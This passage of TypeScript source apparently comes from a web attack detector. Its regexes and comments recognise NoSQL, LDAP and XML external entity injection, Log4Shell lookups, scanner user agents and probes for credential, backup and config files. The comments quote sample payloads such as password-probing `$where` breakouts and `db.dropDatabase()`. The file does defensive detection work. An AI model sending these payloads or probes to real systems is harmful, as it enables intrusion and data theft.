\t]{1,4})sleep)\s*\(\s*\d+\s*\)\s*(?:['"]\s*)?(?:\|\||&&|;)|\bwhile\s*\(\s*\w{1,10}\s*-\s*\w{1,10}\s*<\s*\d|\bdo\s*\{[^{}]{0,200}?\bnew\s+date\s*\(\s*\)[^{}]{0,100}\}\s*while\s*\(|(?:^|[;'"=])\s{0,10}\d{1,6}\s{0,10};\s{0,10}return\s{1,10}(?:db\.|this\.)|\)\s{0,10}\{\s{0,10}return\s{1,10}(?:true|1)\s{0,10};?\s{0,10}\}\s{0,10}var\s|^\s{0,10}return\s{1,10}(?:true|1)\s{0,10};\s{0,10}var\s/,
  // (thirty-ninth round) a `$where`'s string broken out of, then a document's field tested by a string method, a character at a time
  // (`' || this.password.startsWith('FLAG{') && this.username=='admin`)
  // (review: the value's own breakout, opening it — not a string literal's closing quote in a line of code, `type === 'file' || this.path.endsWith('.json')`)
  /^[^'"\n]{0,40}['"]\s{0,10}(?:\|\||&&)\s{0,10}\(?\s{0,4}this\s{0,4}\.\s{0,4}\w{1,40}\s{0,4}\.\s{0,4}(?:startswith|endswith|includes|indexof|charat|charcodeat|codepointat|substr|substring|slice|search|localecompare)\s{0,4}\(/,
  // (twenty-first round) a JavaScript function returning a value as the whole value (`function(){ return this.userid}`, after a
  // quote too): what a `$where` runs on each document
  /^\s{0,10}['"]?\s{0,10}function\s{0,4}\(\s{0,4}\)\s{0,4}\{\s{0,10}return\b[^{}]{0,100}\}/,
]
/**
 * (thirtieth round) Strapi's REST filters as its clients write them, a query parameter's name rooted at `filters` whose every bracket is a
 * field that is no credential (review: none in the path), an index or one of Strapi's own operators but its negations (`filters[age][$gt]=18`,
 * `filters[$or][0][title][$eq]=hello`, `filters[id][$in][0]=3`):
 * the headless CMS's documented query language, not an operator smuggled into a form's field. `$regex`, `$where`, `$expr` are none of
 * Strapi's and still count, and so does an operator under any other name (`username[$ne]=x`).
 */
const STRAPI_FILTER = /^filters(?:\[(?:[\w.-]{1,60}|\$(?:eqi?|lte?|gte?|in|containsi?|null|notnull|between|startswithi?|endswithi?|or|and))\]){1,12}$/
/** a credential's, an identity's or a privilege's field, anywhere in its name or path, where an operator in place of a value is the
 * injection itself (`{"password": {"$gt": ""}}`, `{"user.password": …}`, `resetToken`, `user_role`) */
const CREDENTIAL_FIELD = /pass|pwd|(?:^|[._-])pw(?:$|[._-])|token|secret|key|hash|salt|otp|code|(?:^|[._-])pin(?:$|[._-])|role|perm|admin|auth|cred|user|usr|login|e-?mail|session|uid|acl|priv|scope|group|owner|tenant/i
/** an account a comparison singles out is an injection's target (`{"q": {"$in": ["admin", "root"]}}`) */
const PRIVILEGED_NAME = /admin|root|super|sysadmin|system|owner/i
/** (not `$ne`, `$nin`: a negation matches every other document, the bypass itself, `{"status": {"$ne": "x"}}`) */
const COMPARISONS = new Set(['$eq', '$gt', '$gte', '$lt', '$lte', '$in'])
const MAX_FILTER_NODES = 200
/**
 * (thirty-first round) A document keyed by another language's `$` names (JSONata's function reference, `{"$string": {"args": …,
 * "desc": …}, "$not": {…}, "$exists": {…}}`): at least three `$` keys no MongoDB operator has, and every key named as an
 * operator holding an object of plain fields whose values are text, as a catalogue's entries do (an operator's `null`, `""`, a
 * list, a nested operator still count). Bounded: at most MAX_FILTER_NODES objects looked at.
 */
function dollarCatalogue(doc: unknown, keys: ReadonlySet<string>): boolean {
  let names = 0
  for (const k of keys) if (k.charCodeAt(0) === 36 && !NOSQL_OPERATORS.has(k.toLowerCase()) && ++names >= 3) break
  if (names < 3) return false
  let nodes = 0
  const entries = (o: unknown): boolean => {
    if (++nodes > MAX_FILTER_NODES || o === null || typeof o !== 'object') return nodes <= MAX_FILTER_NODES
    for (const [k, v] of Object.entries(o as Record<string, unknown>)) {
      if (k.charCodeAt(0) === 36 && NOSQL_OPERATORS.has(k.toLowerCase())) {
        if (v === null || typeof v !== 'object' || Array.isArray(v)) return false
        for (const [f, x] of Object.entries(v as Record<string, unknown>)) if (f.charCodeAt(0) === 36 || typeof x !== 'string') return false
      } else if (!entries(v)) return false
    }
    return true
  }
  return entries(doc)
}
/** A value that is a query document in JSON (`where={"age":{"$gt":18}}`), read at most 4 KiB: see dataFilter. */
function dataFilterText(v: string): boolean {
  if (v.length > 4096) return false
  try {
    return dataFilter(JSON.parse(v))
  } catch {
    return false
  }
}
/**
 * (thirtieth round) A query document as Parse's and MongoDB-backed APIs take it from their clients (`where={"score":{"$gte":1000}}`,
 * `{"$or":[{"wins":{"$gt":150}},{"wins":{"$lt":5}}]}`): every operator a comparison (`$eq`, `$gt`, `$gte`, `$lt`, `$lte`, `$in`;
 * review: not a negation) of a named field that is no credential, against a literal that is no empty string nor a privileged account's name (a
 * number, a word, a list of them), under fields of fields or a wrapper's key (`{"where": {…}, "limit": 10}`); `$or` and `$and` only
 * over such filters, none empty and none naming a credential. An operator anywhere else (`{"$gt": ""}` in a field's place,
 * `{"password": {"$ne": "x"}}`, `$regex`, `$where`, `$expr`, an update) is still an injection. Bounded: at most MAX_FILTER_NODES
 * filter objects, 8 deep, each object's fields read once (within the body the detector inspects).
 */
function dataFilter(doc: unknown): boolean {
  let nodes = 0
  let operators = 0
  const literal = (v: unknown) => (typeof v === 'string' ? v.trim() !== '' && !PRIVILEGED_NAME.test(v) : typeof v === 'number' || typeof v === 'boolean')
  const filter = (o: unknown, depth: number, branch = false): boolean => {
    if (++nodes > MAX_FILTER_NODES || depth > 8 || o === null || typeof o !== 'object' || Array.isArray(o)) return false
    const entries = Object.entries(o as Record<string, unknown>)
    if (entries.length === 0) return false
    for (const [k, v] of entries) {
      if (k === '$or' || k === '$and') {
        if (!Array.isArray(v) || v.length === 0 || !v.every((x) => filter(x, depth + 1, true))) return false
        continue
      }
      // (an alternative's credential or privilege, `{"$or": [{"admin": true}, …]}`, is the bypass itself)
      if (k.startsWith('$') || (branch && CREDENTIAL_FIELD.test(k))) return false
      if (literal(v)) continue
      if (v === null || typeof v !== 'object' || Array.isArray(v)) return false
      const ops = Object.entries(v as Record<string, unknown>)
      if (ops.length === 0) return false
      // a field's own fields, or a wrapper's (`{"where": {"age": {"$gt": 18}}, "limit": 10}`): a filter in turn
      if (!ops.some(([op]) => op.startsWith('$'))) {
        if (!filter(v, depth + 1)) return false
        continue
      }
      if (CREDENTIAL_FIELD.test(k)) return false
      for (const [op, x] of ops) {
        if (!COMPARISONS.has(op.toLowerCase())) return false
        if (!(literal(x) || (Array.isArray(x) && x.length > 0 && x.length <= 100 && x.every(literal)))) return false
        operators++
      }
    }
    return true
  }
  return filter(doc, 0) && operators > 0
}
/** (twelfth round) what a shell program keeps of NoSQL injection: operators, not JavaScript's statements (`|| { …; return 1 }` is the shell's) */
const NOSQL_OPERATOR_SHAPES = NOSQLI.slice(0, 2)
/**
 * (thirteenth round) what a program's source keeps: its statements on lines of their own are its own (Go's
 * `if os.IsNotExist(err) {\n return true\n }\n var …`), so JavaScript's statement shapes count within a line
 */
// (thirty-third round) and a program's own queries and updates, its operators as its objects' keys (`Boards.updateAsync(id, { $set: { … } })`,
// `{ $in: ids }`): a source's text becomes no query object; only the operators that run JavaScript in the database are kept
// (review: a quoted operator, `"$ne":`, is a document's, not a program's object key: a body that fails to parse as JSON — Python's `NaN`,
// nesting past the walk — is read as text and may look like a program's source)
const CODE_NOSQLI = [NOSQLI[0]!, /(?:^|['"{,])\s*\$(?:where|function|accumulator)['"]?\s*:|['"]\$(?:ne|eq|gt|gte|lt|lte|in|nin|regex|where|exists|or|and|not|nor|expr|function|accumulator|elemmatch|match|lookup|group|project|unwind|facet|unionwith|set|unset|inc|push|pull|pullall|addtoset|rename|setoninsert|geowithin|geointersects|near|nearsphere|like|ilike|notlike)['"]\s*:/, new RegExp(NOSQLI[2]!.source.replaceAll('\\s', '[ \\t]'))]
/**
 * (eleventh round) the database's own methods called in $where JavaScript or after a closed call (`}); db.dropDatabase();`);
 * a function spliced into a string and called on the document (`admin'+function(x){…x.password…}(this)+'`)
 */
const NOSQL_CALLS = /\bdb\s{0,4}\.\s{0,4}(?:dropdatabase|runcommand|admincommand|createuser|dropuser|shutdownserver|copydatabase|eval|loadserverscripts)\s{0,4}\(|['"`]\s{0,4}\+\s{0,4}function\s{0,4}\(\s{0,4}\w{0,10}\s{0,4}\)\s{0,4}\{[^\n]{0,300}?\}\s{0,4}\(\s{0,4}this\s{0,4}\)/

/** LDAP filter injection. */
/** (fiftieth round) the names a directory's login or search is asked by */
const DIRECTORY_KEY = /^(?:[\w.-]{0,20}[_.-])?(?:user|username|user_?name|uid|login|cn|dn|mail|member|filter|account|samaccountname|principal)$/
/** a name's prefix, a wildcard, the clause closed (`admin*)`) */
const WILDCARD_CLOSE = /^[\w.@-]{1,60}\*\)$/
const LDAPI = [
  /[)*]\s*(?:\)\s*){0,2}\({1,3}\s*(?:[|&!]\s*)?(?:\(\s*){0,3}[a-z][a-z0-9-]{0,40}\s*[~<>]?=\s*\*/,
  // (forty-second round: not a C comparison after a cast, `*(ty *)(klass == 0 ? …`)
  /\*\s*\)\s*\(\s*(?:[|&!]\s*)?(?:\(\s*)?[a-z][a-z0-9-]{0,40}\s*[~<>]?=(?!=)/,
  // (fourteenth round) the same with any attribute description: an OID (`*)(2.5.4.35=*))`, `*)(.2.5.4.3=*))`), an
  // extensible match (`*)(cn:dn:=admin))`, `*)(userAccountControl:1.2.840.113556.1.4.803:=2))`), and a clause joined
  // by an operator after the break-out (`*)|(objectClass=*))`); a NUL right after the break-out (`*)(%00))`)
  // (review) after `))` (a call's result called again in code: `f(g(x))(key=value)`, `then((r))(x => x)`) only a
  // description no program writes (an OID, an extensible match) or a value with a wildcard (`(!(a=b))(uid=s*))`)
  /\*[ \t]{0,4}\)[ \t]{0,4}(?:[|&!][ \t]{0,4})?\([ \t]{0,4}(?:[|&!][ \t]{0,4})?(?:\([ \t]{0,4})?(?:[a-z][a-z0-9-]{0,40}|\.?\d{1,10}(?:\.\d{1,10}){1,20})(?::dn)?(?::[a-z0-9.-]{1,60})?[ \t]{0,4}[~<>:]?=(?!=)|\)[ \t]{0,4}\)[ \t]{0,4}(?:[|&!][ \t]{0,4})?\([ \t]{0,4}(?:[|&!][ \t]{0,4})?(?:\([ \t]{0,4})?(?:\.?\d{1,10}(?:\.\d{1,10}){1,20}(?::dn)?(?::[a-z0-9.-]{1,60})?|[a-z][a-z0-9-]{0,40}(?::dn(?::[a-z0-9.-]{1,60})?|:[a-z0-9.-]{1,60}))[ \t]{0,4}[~<>:]?=(?!=)|\)[ \t]{0,4}\)[ \t]{0,4}(?:[|&!][ \t]{0,4})?\([ \t]{0,4}(?:[|&!][ \t]{0,4})?(?:\([ \t]{0,4})?[a-z][a-z0-9-]{0,40}[ \t]{0,4}[~<>]?=[^()=*\n]{0,100}\*[^()=\n]{0,100}\)|\*\s*\)\s*\(\s*\0/,
  // (seventeenth round) a whole value opening on a wildcard then a filter with an operator (`*(|(uid=a*))`, `*|(objectclass=*)`),
  // the absolute true filter after a break-out's operator (`*)|(&)`), an extensible match by OID after a break-out (`admin)(sAMAccountName:1.2.840.113556.1.4.803:=512)`)
  /^\s{0,10}\*\s{0,4}(?:\(\s{0,4})?[|&!]\s{0,4}\(\s{0,4}[a-z][\w-]{0,40}\s{0,4}[~<>]?=[^()]{0,100}\)|\)\s{0,4}[|&]\s{0,4}\(\s{0,4}[&|]\s{0,4}\)|\w\)\s{0,4}\(\s{0,4}[a-z][\w-]{0,40}(?::dn)?:\d{1,10}(?:\.\d{1,10}){2,20}:=/,
  // (fourteenth round) an LDAP URL's scope then its filter (`?sub??(objectClass=*)`, `ldap://h/dc=x??sub?(cn=*)`)
  /\?{1,2}(?:base|one|sub|subtree|children)\?{1,2}[^?\s]{0,40}?\(\s*[a-z][\w-]{0,40}\s*[~<>]?=[^()]{0,100}\)/,
  /\)\s*\(\s*[|&!]\s*\(\s*[|&!]/,
  // (nineteenth round: an extensible match too, `admin)(|(userAccountControl:1.2.840.113556.1.4.803:=512))`)
  /\)\s*\(\s*[|&!]\s*\(\s*[a-z][a-z0-9-]{0,40}(?::dn)?(?::\d{1,10}(?:\.\d{1,10}){1,20})?\s*[~<>:]?=/,
  /\(\s*[|&]\s*\(\s*[a-z][a-z0-9-]{0,40}\s*=\s*\*\s*\)/,
  // (forty-ninth round: or the value opening on parentheses closed, a nested filter's breakout, `))(cn=`)
  /(?:^\s{0,10}(?:\)\s{0,4}){0,2}|[\w*])\s*\)\s*\(\s*(?:uid|cn|sn|ou|dc|mail|objectclass|userpassword|samaccountname|memberof|givenname|description)\s*[~<>]?=/,
  // a whole filter given as a value, combining clauses with a wildcard: (&(sn=admin)(password=m*))
  /^\s*\(\s*[&|]\s*\(\s*[a-z][\w-]{0,40}\s*[~<>]?=[^()]{0,100}\)\s*\(\s*[a-z][\w-]{0,40}\s*[~<>]?=[^()]{0,100}\*/,
  /\)\s*\(\s*[&|]\s*\)|\*\s*\)\s*\(\s*[&|!]\s*\)?\s*$|\*\s*\)\s*\)\s*\(\s*[|&]|\)\s*\)\s*\0|\*\s*\)\s*\0/,
  // a value starting with a filter's operator then a clause: &(objectclass=*)  !(cn=admin)
  /^\s{0,10}\(?\s{0,10}[&|!]\s*\(\s*[a-z][\w-]{0,40}\s*[~<>]?=[^()]{0,100}\)/,
  // a filter clause given as the whole value, probing with a wildcard: (password=X*)  (cn=adm*)
  /^\s*\(\s*[a-z][\w-]{1,40}\s*[~<>]?=[^()*\s]{0,100}\*\s*\)\s*$/,
  // (eleventh round) the absolute true or false filter, as the whole value or inside a filter's operands: (&)  (|(&)(userPassword=x))
  /^\s*\(\s*[&|]\s*\)\s*$|\(\s*[|&!]\s*\(\s*[&|]\s*\)/,
  // (fiftieth round) a short whole value that breaks out of its clause and opens the next one for the filter's own `)` to close
  // (`admin)(&`, `*)(`, `*)(|`: `(uid=admin)(&)`), or closes two after a wildcard (`*))`, `adm*))`: `(&(uid=*))…`); one token before
  // it (review: no blank, `:` or `;` — not a name and a note, `John Doe)(`, nor a kiss, `love you :*))`)
  /^[\w.@*-]{0,60}[\w*]\)\([&|!]?$|^[\w.@-]{0,60}\*\)\)$/,
]

/**
 * (twenty-eighth round) The hosts where a format's publisher serves its own DTD, as documents of that format name it: the W3C's
 * (XHTML), Apple's property lists, Java EE's, Spring's, MyBatis', Hibernate's, Struts' and Tiles', DocBook's, Checkstyle's,
 * Jetty's configuration, Netscape's RSS 0.91, freedesktop's D-Bus introspection. Nobody but the publisher answers there.
 */
const PUBLISHED_DTD = '(?:www\\.w3\\.org|www\\.apple\\.com\\/dtds|java\\.sun\\.com\\/(?:dtd|j2ee\\/dtds)|www\\.springframework\\.org\\/dtd|mybatis\\.org\\/dtd|(?:www\\.)?hibernate\\.org\\/dtd|hibernate\\.sourceforge\\.net|struts\\.apache\\.org\\/dtds|tiles\\.apache\\.org\\/dtds|jakarta\\.apache\\.org\\/struts\\/dtds|(?:www\\.)?oasis-open\\.org\\/docbook|(?:www\\.)?docbook\\.org\\/xml|(?:www\\.)?checkstyle\\.org\\/dtds|www\\.puppycrawl\\.com\\/dtds|jetty\\.org|(?:www\\.)?eclipse\\.(?:org|dev)\\/jetty|jetty\\.mortbay\\.org|my\\.netscape\\.com\\/publish\\/formats|www\\.freedesktop\\.org\\/standards|docbook\\.sourceforge\\.net\\/release)\\/'
/** XML external entities and XInclude. */
const XXE = [
  // (twenty-eighth round: an internal subset that declares no entity, only elements and attributes, a vocabulary's own schema, is none:
  // `<!DOCTYPE iso_639_entries [<!ELEMENT …><!ATTLIST …>]>`; one that declares any entity after them still is, and so is the
  // probes' opening, an element of ANY content first: `<!DOCTYPE foo [<!ELEMENT foo ANY>`, and a list giving a handler by default)
  /<!doctype\s[^>[]{0,200}\[\s*<!(?:entity|element\s+[\w:.-]{1,60}\s+any\s*>|attlist[^>]{0,400}\son[a-z]{3,30}\s+cdata|(?:element|attlist)[^\]]{0,4000}?<!(?:entity|attlist[^>]{0,400}\son[a-z]{3,30}\s+cdata))/,
  /<!entity\s+(?:%\s*)?[\w.:-]{1,60}\s+(?:system|public)\b/,
  /<!entity\s+%/,
  /<!entity\s+[\w.:-]{1,60}\s+['"][^'"]{0,200}&[\w.:-]{1,60};/,
  /\bxmlns:xi\s*=\s*['"]https?:\/\/www\.w3\.org\/2001\/xinclude|<\s*xi:include\b/,
  // (twenty-eighth round: not a publisher's own DTD, `SYSTEM "http://docbook.sourceforge.net/…/targetdatabase.dtd"`)
  new RegExp(`<!doctype\\s[^>]{0,200}\\bsystem\\s+['"](?:(?:file|ftp|php|expect|jar|gopher|netdoc|data):|https?:(?!\\/\\/${PUBLISHED_DTD}))`),
  // an external DTD by PUBLIC id, unless it is the W3C's own (an XHTML document's doctype) or (twenty-eighth round) a
  // publisher's own for its format (PUBLISHED_DTD)
  new RegExp(`<!doctype\\s[^>]{0,200}\\bpublic\\s+['"][^'"]{0,200}['"]\\s*['"](?:(?:file|ftp|php|expect|jar|gopher|netdoc|data):|https?:(?!\\/\\/${PUBLISHED_DTD}))`),
]

/**
 * (eighteenth round) A document written with `+` for its blanks, as a form encodes them, sent where nothing decodes them
 * (`<!DOCTYPE+foo+[<!ENTITY+xxe+SYSTEM+"http://…">]>`): read with blanks, as a second decoding would hand it on.
 */
const PLUS_MARKUP = /<!(?:doctype|entity)\+/
function plusBlanksXxe(t: string): boolean {
  return PLUS_MARKUP.test(t) && anyOf(XXE, t.replace(PLUS_ALL, ' '))
}

/** Log4Shell: a JNDI lookup, after the lookups that hide it are resolved (`resolveLookups`). */
const NETWORK_LOOKUP = /\$\{\s{0,4}(?:url\s{0,4}:\s{0,4}[\w-]{1,20}\s{0,4}:|dns\s{0,4}:\s{0,4}(?:address|canonical-name|name)\s{0,4}\||script\s{0,4}:\s{0,4}(?:javascript|js|groovy|nashorn)\s{0,4}:|(?:ldaps?|rmi|iiop|corba|nds|nis):\/\/)/
const JNDI = /\$\{\s*j\s*n\s*d\s*i\s*:/
const PROVIDER_KEY = /:\s{0,4}(?:ldaps?|rmi|iiop|corba|nds|nis|dns):\/\//
const ONE_LETTER = /^[a-z]{0,12}:[a-z]$/
const LOOKUP = /\$\{([^${}]{0,200})\}/
const LOOKUP_SYNTAX = /\$\{|\}|::-|:-|(?:lower|upper|env|sys|date|java|ctx|main|k8s|docker|bundle|sd|web|map)\s*:/g
const JNDI_LEFT = /jndi:(?:ldaps?|rmi|dns|iiop|corba|nds|nis|https?):/

/** Scanner user agents and the paths scanners probe for. */
const SCANNER_AGENT =
  /\b(?:sqlmap|nikto|nmap|nessus|openvas|acunetix|netsparker|invicti|w3af|wpscan|dirbuster|gobuster|dirb|ffuf|feroxbuster|wfuzz|nuclei|masscan|zgrab|zmeu|arachni|skipfish|burp(?:suite| collaborator)|appscan|webinspect|qualys|jaeles|whatweb|wapiti|commix|xsstrike|havij|paros|owasp[ -]zap|zap\/\d|hydra|fimap|joomscan|droopescan|cmsmap|httpx - open-source|interactsh|censysinspect|netcraft ssl|l9scan|l9explore|xray\/|goby|fuzz faster u fool)\b/
const SCANNER_PATH =
  /^\/(?:\.env(?:\.[\w.-]{1,20})?$|\.git\/|\.svn\/|\.hg\/|\.bzr\/|\.ds_store$|\.aws\/|\.ssh\/|\.htpasswd$|\.htaccess$|\.idea\/|\.vscode\/|\.docker\/|\.kube\/|id_[rd]sa$|wp-admin\/(?:install|setup-config)\.php|wp-config\.php|xmlrpc\.php$|(?:phpmyadmin|pma|myadmin|phpmyadmin\d?|mysqladmin|dbadmin)(?:\/|$)|cgi-bin\/(?:php|test|printenv|test-cgi|luci|\.%2e)|actuator(?:\/|$)|server-status$|server-info$|web\.config$|config\.php\.bak$|(?:backup|dump|database|db|site)\.(?:sql|zip|tar\.gz|tgz|bak)$|boaform\/|hnap1\/?$|vendor\/phpunit\/|solr\/admin|manager\/html|jmx-console|invoker\/jmxinvokerservlet|_ignition\/execute-solution|telescope\/requests|api\/jsonws\/invoke|remote\/fgt_lang|\+cscoe\+\/|owa\/auth\/x\.js|autodiscover\/autodiscover\.json|console\/(?:css|images)\/%252e|\.well-known\/\.\.|debug\/pprof|_profiler\/phpinfo|phpinfo\.php$|info\.php$|shell\.php$|cmd\.php$|c99\.php$|r57\.php$|webshell|elmah\.axd$|trace\.axd$|rails\/info\/(?:properties|routes)|oa_html\/jtfwrepo\.xml$)/
/** whether a path ends on a blank (a space or a tab, what `%20` and `%09` decode to) */
const isBlankEnd = (p: string) => p.endsWith(' ') || p.endsWith('\t')
/** (twenty-ninth round) a search engine's hidden index beside its API's `_` segment (`/.kibana/_search`): no dotfile probed */
const SEARCH_INDEX = /\/\.[a-z0-9][\w.-]{0,200}(?=\/_[a-z])|(?<=\/_[a-z]\w{0,40})\/\.[a-z0-9][\w.-]{0,200}(?=\/|$)/g
/**
 * Backup, configuration and dot files, anywhere in a path: what a scanner asks for after the pages
 * it found (`/admin.php.bak`, `/index.php~`, `/Copy of login.asp`, `/.bash_history`, `/vtund.conf`).
 */
/** (thirty-first round) a reverse-DNS identifier as the last segment (Matrix's event type `org.example.custom.config`, an app's `com.example.app.backup`): a name, no file probed */
const REVERSE_DNS_END = /^(?![^\n]*\/\.)[^\n]*\/(?:com|org|net|io|dev|app|m|im|co|de|uk|fr|nl|ch|me|eu|us|ca|au|jp)\.[a-z0-9-]{1,40}(?:\.[a-z0-9_-]{1,40}){1,8}(?<!\.(?:sql|bak|backup|old|orig|swp|swo|db|env|zip|tar|gz|tgz|7z|rar|sqlite3?|dump|log|key|pem|ppk|tmp|sav|save|dist|conf|ini|cfg|yml|yaml|properties|htpasswd|passwd|mdb|inc))$/
const BACKUP_PATH = /\.(?:bak|backup|bck|bkp|old|orig|original|save|sav|swp|swo|tmp|temp|copy|back|rej|dist|1|2|~\d?)$|~$|\/copy[ _](?:\(\d\)[ _])?of[ _][^/]{1,200}$|\/\.(?!well-known\/)[a-z0-9_][\w.-]{0,60}(?:\/|$)|\.(?:conf|cfg|ini|inc|mdb|sql|sqlite3?|db|dbf|dump|pwd|key|pem|ppk|kdbx|skr|pgp|gpg|log|htpasswd|htaccess|passwd|env|yml|yaml|properties|lock|config)$|\/(?:passwd|shadow|htpasswd|htgroup|passlist|secring|pwd\.db|spwd\.db|master\.passwd|auth_user_file)(?:\.[\w]{1,6})?$/

/**
 * An archive whose name is a backup's, in any folder (`/admin99/backup.zip`, `/include/eweb/www.rar`,
 * `/dede/plus/paycenter/alipay/database.zip`, `/programs/1.zip`): a scanner sweeping backup names
 * through every directory it found. The words mean a copy of the site or its database; a release or a
 * download named for a product or a version (`/downloads/release.zip`, `/docs/html.zip`,
 * `/datasets/data.zip`) and a number under a release folder (`/archive/refs/tags/2023.zip`) are not.
 */
const BACKUP_ARCHIVE = /\/(?:backups?|backupdata|databackup|sitebackup|webbackup|back|bak|bk|bkp|database|db|dump|www|wwwroot|web|website|site|htdocs|public_html|root|temp|tmp|(?<!\/(?:archive|releases?|downloads?|tags|dist|versions?|v\d{1,4})\/)\d{1,8})\.(?:zip|rar|7z|tar|tgz|tbz2?|txz|gz|gzip|bz2|bzip2|xz|tar\.(?:gz|bz2|xz))$/

/** The last letters of an archive's extensions (zip, rar, 7z, tgz, bz2…): the backup-archive judge runs only on a path ending so. */
const ARCHIVE_END = 'prz2'

/**
 * What a scanner downloads whole once it guesses a name: an archive at the site's root (`/www.tar.gz`,
 * `/2023.zip`, `/backup.7z`: a site serves its downloads from a folder), a database dump however it is
 * packed (`/db.sql.tar.bzip2`), a project's build or dependency manifest or an IDE's metadata
 * (`/composer.json`, `/WEB-INF/config.xml`, `/nbproject/private/private.xml`, `/App_Config/…`,
 * `/firebase.json`), a secret's file (`/client_secret.json`, `/env.json`, `apiserver-client.crt`,
 * `/passwords.xml`), a database client's saved connections at the root (`/connections.xml`, `/conn.json`)
 * and a data store's client configuration (`/redis_config.json`, `/config/redis.json`). Not: an API
 * resource with a format suffix (`/users.json`, `/accounts.xml`, `/login.json`, `/users/password.json`),
 * `/package.json` and `/config.json` (a single-page app's build may serve them), `/.well-known/*`.
 */
const PROBED_FILE = /^\/[^/]{1,80}\.(?:zip|rar|7z|tar|tgz|tbz2?|txz|gz|gzip|bz2|bzip2|xz)$|\.sql\.(?:zip|rar|7z|tar|tgz|gz|gzip|bz2|bzip2|xz)(?:\.(?:gz|gzip|bz2|bzip2|xz))?$|\/(?:composer\.(?:json|lock)|package-lock\.json|project(?:\.fragment)?\.lock\.json|bower\.json|installed\.json|build(?:\.local)?\.xml|[\w.-]{1,60}\.(?:csproj|vbproj|sln|sublime-project|sublime-workspace)|nb-configuration\.xml|sftp-config\.json|upgradelog\.xml|app\/etc\/local\.xml|_wpeprivate\/[^?]{0,200}|compile_commands\.json|pom\.xml|phpunit\.xml(?:\.dist)?|homestead\.(?:json|ya?ml)|atlassian-ide-plugin\.xml|dwsync\.xml|(?:web|meta)-inf\/[^?]{0,200}|app_config\/[^?]{0,200}|nbproject\/[^?]{0,200}|maven\.xml|firebase\.json|deployment-config\.json)$|\/[\w.-]{0,40}(?:secrets?|credentials?|client_secret|service[-_]?account|wallet|env|db|database|keystore|passwords|passwordsdata)\.(?:json|xml)$|^\/(?:connections?|conn)\.(?:json|xml)$|\/(?:(?:redis|mongo(?:db)?|mysql|postgres(?:ql)?|memcached?)(?:[_-]|\/)config|config\/(?:redis|mongo(?:db)?|mysql|postgres(?:ql)?|memcached?))\.json$|\.(?:crt|p12|pfx|jks|keystore|csr)$/

/**
 * A server's or framework's configuration written in XML, which it reads and never serves: a name saying
 * so (`/config.xml`, `/HfmConfig.xml`, `/admin-authz.xml`, `/soapConfig.xml`) or a Java server's
 * descriptors (`/web.xml`, `/weblogic.xml`, `/serverindex.xml`, `/manager/manager.xml`), and a device's
 * UPnP description, which a scanner asks an HTTP API for to fingerprint a router, camera or NAS
 * (`/rootDesc.xml`, `/description.xml`, `/upnp/IGD.xml`, `/tr064dev.xml`, `/simplecfg.xml`). A site's
 * feeds, sitemaps and `browserconfig.xml` (Windows' tiles) are XML it serves. (Forty-eighth round: those names after a dotted prefix, a copy's
 * `/backup.server.xml`, `/global.web.xml`; and a Java application's framework descriptors, `/applicationContext.xml`, `/logback.xml`,
 * `/portlet.xml`, `/liferay-portlet.xml`, `/struts.xml`, `/persistence.xml`.)
 */
const CONFIG_XML = /\/(?!browserconfig\.xml)(?:[\w.-]{0,60}(?:config|conf|cfg|settings|authz)[\w.-]{0,40}|[\w.-]{0,40}desc|device_?description|description|ddf|igd|tr064dev|nasdevice|nasservice|printbasicdevice|(?:[\w-]{1,40}\.)?(?:web|weblogic|jboss-web|context|server|serverindex|resources|variables|virtualhosts|cell|manager|host-manager|application)|applicationcontext[\w.-]{0,40}|logback(?:-[\w-]{1,20})?|log4j2?(?:-[\w-]{1,20})?|portlet|liferay-[\w-]{1,40}|struts(?:-[\w-]{1,20})?|beans|persistence|ehcache|hibernate|spring-[\w-]{1,40})\.xml$/
/**
 * A server-side script's name with more glued after its extension (`/index.php.new`, `/index.aspx_old2019`,
 * `/login.jsp~1`, `/index.php.`): the server no longer runs it, it serves its source — what a scanner
 * guesses a backup or an editor's copy is named. (The extension alone, `php5`, `aspx`, is a page.)
 */
const SCRIPT_SOURCE = /\.(php|phtml|aspx?|ashx|asmx|axd|asx|jspx?|cfml?)([\w.~=#-]{1,40})$/
const SCRIPT_EXTENSION = /^(?:php[3-7]?|phtml|aspx?|ashx|asmx|axd|asx|jspx?|cfml?)$/
function scriptSource(path: string): boolean {
  const m = SCRIPT_SOURCE.exec(path)
  return m !== null && !SCRIPT_EXTENSION.test(m[1]! + m[2]!)
}
/** A URL or a page with a query, given as a value: `https://a/product.php?id=10 AND 1=2`  `/store.php?id=1; COPY …` */
const URL_QUERY = /^\s*(?:[a-z][a-z0-9+.-]{1,15}:\/\/[^\s?#]{1,300}|\/[^\s?#]{0,300}|[\w.-]{1,100}\.(?:php\d?|aspx?|jsp|cfm|cgi|pl|do|action|html?))?\?/
const PLUS_ALL = /\+/g
/** A SQL keyword between two `+` (a form's blanks): '+OR+1=1--  1+UNION+SELECT+1 */
const PLUS_KEYWORD = /(?:^|\+)(?:or|and|union|select|order|group|having|waitfor|exec|from)\+/
/** Prose's quotation opening on a dash: ‘--so long as I get somewhere,’ */
const QUOTED_DASH = /^\u2018-{1,2}[a-z]/
/** (twenty-first round) the same with double quotes: “--In as good stead to-morrow as to-day.” */
const DOUBLE_QUOTED_DASH = /^\u201c-{1,2}[a-z]/
/** a link to the loopback host, the resource's own in a test or a local deployment (`localhost`, `http://localhost/orders/999`) */
// (review: a path only, no query, fragment, userinfo or escape that could carry another target, and the web's ports only, not a loopback service's)
const LOOPBACK_LINK = /^(?:https?:\/\/)?(?:localhost|127\.0\.0\.1|\[::1\])(?::(?:80|443|8080))?(?:\/[\w\-./~]{0,500})?$/i
// (review: a DOM call's argument, `createElement('div')`, `$("div")`, or an item of a list of quoted names, `['div', 'span']`; not after
// any `,`, `=` or `:`, which an attacker writes around `'div'` as easily: `1,'div',1` is MySQL's DIV between two strings)
const QUOTED_DIV = /(?<=\b(?:createelement|queryselector(?:all)?|closest|getelementsbytagname|matches|jquery|find|is|wrap|append|prepend)[ \t]{0,4}\([ \t]{0,4}|\$[ \t]{0,4}\([ \t]{0,4})(['"])div\1(?=[ \t]{0,4}[),])|(?<=\[[ \t]{0,4})(['"])div\2(?=[ \t]{0,4},[ \t]{0,4}['"])|(?<=['"][ \t]{0,4},[ \t]{0,4})(['"])div\3(?=[ \t]{0,4}[,\]])/
const QUOTED_DIVS = new RegExp(QUOTED_DIV.source, 'g')
